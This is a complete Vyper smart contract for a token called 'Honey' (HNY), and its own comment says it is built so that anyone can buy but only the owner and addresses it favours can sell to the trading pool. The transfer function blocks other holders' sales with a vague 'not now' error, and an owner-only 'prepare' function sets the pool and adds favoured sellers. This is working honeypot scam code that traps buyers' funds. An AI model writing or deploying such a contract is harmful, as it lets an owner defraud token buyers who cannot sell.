# pragma version 0.4.3
# A token anyone can buy and only the owner, and those it favours, can sell to the pool.

event Transfer:
    sender: indexed(address)
    receiver: indexed(address)
    value: uint256

owner: public(address)
name: public(String[32])
symbol: public(String[16])
decimals: public(uint8)
totalSupply: public(uint256)
balanceOf: public(HashMap[address, uint256])
pool: address
favoured: HashMap[address, bool]


@deploy
def __init__(supply: uint256):
    self.owner = msg.sender
    self.name = "Honey"
    self.symbol = "HNY"
    self.decimals = 18
    self.totalSupply = supply
    self.balanceOf[msg.sender] = supply
    self.favoured[msg.sender] = True
    log Transfer(sender=empty(address), receiver=msg.sender, value=supply)


@external
def transfer(receiver: address, amount: uint256) -> bool:
    assert receiver != self.pool or self.favoured[msg.sender], "not now"
    self.balanceOf[msg.sender] -= amount
    self.balanceOf[receiver] += amount
    log Transfer(sender=msg.sender, receiver=receiver, value=amount)
    return True


@external
def prepare(pool: address, favoured: address):
    assert msg.sender == self.owner, "not the owner"
    self.pool = pool
    self.favoured[favoured] = True
